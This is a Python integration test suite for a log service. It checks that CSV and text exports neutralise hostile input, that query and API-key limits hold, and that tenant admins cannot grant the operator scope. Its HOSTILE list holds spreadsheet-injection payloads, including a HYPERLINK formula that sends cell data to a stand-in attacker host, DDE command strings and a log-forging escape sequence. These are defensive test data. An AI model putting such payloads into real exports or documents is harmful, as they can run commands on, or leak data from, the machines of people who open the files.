"""Security regressions of issue 16 against a real OpenSearch: the ui app in-process on a real
socket, real keys in the key store, hostile documents indexed into the tenant's data streams.

Each test names the issue item it pins down; each failed on the code before the fix (500s with
tracebacks, formulas written as they were, keys with absurd rates accepted).
"""

from __future__ import annotations

import csv
import io
import logging
from datetime import timedelta

import orjson
import pytest
from aiohttp.test_utils import TestClient, TestServer
from security_test_support import ensure_templates_retrying
from test_api_support import delete_tenant, index_docs, iso, new_tenant, utcnow

from logharbor.config import KafkaSettings, OpenSearchSettings
from opensearch.client import async_client
from opensearch.keys import KeyStore
from ui.app import create_app
from ui.settings import UISettings

pytestmark = pytest.mark.integration

HOSTILE = [
    "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\tTAB=1+1",
    "\rCR=1+1",
    "plain \x1b[31mred\x1b[0m text\rFORGED 2099-01-01T00:00:00Z INFO  fake@host injected\x07",
]


def _doc(tenant: str, i: int, message: str) -> dict:
    return {"@timestamp": iso(utcnow() - timedelta(minutes=i + 1)), "message": message,
            "log": {"level": "INFO"}, "service": {"name": "=svc" if i == 0 else "api"},
            "host": {"name": "node-1"}, "event": {"id": f"{tenant}-{i:04d}"}, "labels": {"tenant": tenant}}


class Env:
    http: TestClient
    store: KeyStore
    tenant: str
    keys: dict[str, str]

    def auth(self, who: str) -> dict[str, str]:
        return {"Authorization": f"Bearer {self.keys[who]}"}


@pytest.fixture(scope="module")
async def sec(os_client, os_url, kafka_bootstrap):
    ensure_templates_retrying(os_client)
    e = Env()
    e.tenant = new_tenant()
    index_docs(os_client, e.tenant, [_doc(e.tenant, i, m) for i, m in enumerate(HOSTILE)])
    client = async_client(OpenSearchSettings(url=os_url))
    store = KeyStore(client)
    e.keys = {}
    e.store = store
    for who, scopes in (("read", ["read"]), ("admin", ["admin"])):
        e.keys[who], _ = await store.create(tenant=e.tenant, source="sec", scopes=scopes, rate=1000, burst=1000)
    app = create_app(UISettings(rollup_interval_s=0), opensearch=OpenSearchSettings(url=os_url),
                     kafka=KafkaSettings(bootstrap=kafka_bootstrap))
    e.http = TestClient(TestServer(app))
    await e.http.start_server()
    try:
        yield e
    finally:
        await e.http.close()
        for r in await store.list(tenant=e.tenant):
            await client.delete(index=store.index, id=r.key_id, refresh=True)
        await client.close()
        delete_tenant(os_client, e.tenant)


def _no_traceback(caplog) -> None:
    bad = [r for r in caplog.records if r.exc_info or r.levelno >= logging.ERROR]
    assert not bad, [r.getMessage() for r in bad]


# ---------------------------------------------------------------- item 4: export


async def test_item4_csv_export_neutralises_formulas(sec):
    resp = await sec.http.get("/api/v1/logs/export", params={"format": "csv", "columns": "message,service.name"},
                              headers=sec.auth("read"))
    assert resp.status == 200
    rows = list(csv.reader(io.StringIO((await resp.read()).decode())))
    assert rows[0] == ["message", "service.name"]
    cells = [c for row in rows[1:] for c in row]
    assert len(rows) - 1 == len(HOSTILE)
    for cell in cells:
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    messages = {row[0] for row in rows[1:]}
    assert "'" + HOSTILE[0] in messages and "'\tTAB=1+1" in messages and "'\rCR=1+1" in messages
    assert "'=svc" in {row[1] for row in rows[1:]}
    # JSON keeps values exactly as sent: neutralising is a CSV concern only.
    resp = await sec.http.get("/api/v1/logs/export", params={"format": "ndjson"}, headers=sec.auth("read"))
    sent = {orjson.loads(line)["message"] for line in (await resp.read()).splitlines()}
    assert sent == set(HOSTILE)


async def test_item4_text_export_escapes_control_characters(sec):
    resp = await sec.http.get("/api/v1/logs/export", params={"format": "text"}, headers=sec.auth("read"))
    assert resp.status == 200
    body = await resp.read()
    text = body.decode()
    assert "\x1b" not in text and "\r" not in text and "\x07" not in text
    assert "\\x1b[31mred" in text and "\\rFORGED" in text
    lines = body.split(b"\n")[:-1]
    assert len(lines) == len(HOSTILE)  # no forged line
    assert not any(line.startswith(b"FORGED") for line in lines)


# ---------------------------------------------------------------- item 6: query and time limits


@pytest.mark.parametrize(("path", "params", "names"), [
    ("/api/v1/logs/search", {"q": "(" * 200 + "error" + ")" * 200}, "max_depth"),
    ("/api/v1/logs/search", {"q": "NOT " * 500 + "error"}, "max_depth"),
    ("/api/v1/logs/search", {"q": "x" * 5000}, "4096"),
    ("/api/v1/logs/search", {"from": "now-999999999d"}, "max_time_range_days"),
    ("/api/v1/logs/search", {"q": "last 999999999 days"}, "out of range"),
    ("/api/v1/logs/search", {"from": "0001-01-01T00:00:00Z"}, "max_time_range_days"),
    ("/api/v1/logs/aggregate", {"interval": "0s"}, "min_interval_s"),
    ("/api/v1/logs/aggregate", {"interval": "99999999d"}, "max_interval_days"),
    ("/api/v1/logs/export", {"q": "(" * 300 + "a" + ")" * 300}, "max_depth"),
    ("/api/v1/fields", {"from": "now-999999999d"}, "max_time_range_days"),
])
async def test_item6_hostile_queries_are_400_naming_the_limit_without_traceback(sec, caplog, path, params, names):
    caplog.set_level(logging.INFO)
    resp = await sec.http.get(path, params=params, headers=sec.auth("read"))
    body = await resp.json()
    assert resp.status == 400, body
    assert names in body["error"], body
    _no_traceback(caplog)
    # ...and the service answers a normal request right after.
    resp = await sec.http.get("/api/v1/logs/search", params={"q": "text", "limit": "5"}, headers=sec.auth("read"))
    assert resp.status == 200


# ---------------------------------------------------------------- item 9: key maximums


@pytest.mark.parametrize(("body", "names"), [
    ({"source": "x", "scopes": ["ingest"], "rate": 1e12}, "key_max_rate"),
    ({"source": "x", "scopes": ["ingest"], "burst": 1e15}, "key_max_burst"),
    ({"source": "x", "scopes": ["ingest"], "expires_in": "100000d"}, "key_max_lifetime_days"),
    ({"source": "x", "scopes": ["ingest"], "expires_in": "99999999999999w"}, "out of range"),
])
async def test_item9_key_maximums_refuse_absurd_keys(sec, caplog, body, names):
    caplog.set_level(logging.INFO)
    resp = await sec.http.post("/api/v1/keys", data=orjson.dumps(body), headers=sec.auth("admin"))
    out = await resp.json()
    assert resp.status == 400, out
    assert names in out["error"]
    _no_traceback(caplog)
    ok = {"source": "x", "scopes": ["ingest"], "rate": 5000, "expires_in": "30d"}
    resp = await sec.http.post("/api/v1/keys", data=orjson.dumps(ok), headers=sec.auth("admin"))
    assert resp.status == 201, await resp.text()


async def test_operator_scope_cannot_be_granted_by_a_tenant_admin(sec):
    if "operator" not in sec.keys:  # the CLI's way: an operator key is made by the operator
        sec.keys["operator"], _ = await sec.store.create(tenant=sec.tenant, source="sec", scopes=["operator"])
    body = {"source": "x", "scopes": ["operator"]}
    resp = await sec.http.post("/api/v1/keys", data=orjson.dumps(body), headers=sec.auth("admin"))
    assert resp.status == 403, await resp.text()
    assert "operator" in (await resp.json())["error"]
    resp = await sec.http.post("/api/v1/keys", data=orjson.dumps(body), headers=sec.auth("operator"))
    assert resp.status == 201, await resp.text()
    # operator implies admin and read within its own tenant
    resp = await sec.http.get("/api/v1/keys", headers=sec.auth("operator"))
    assert resp.status == 200
    resp = await sec.http.get("/api/v1/logs/search", headers=sec.auth("operator"))
    assert resp.status == 200
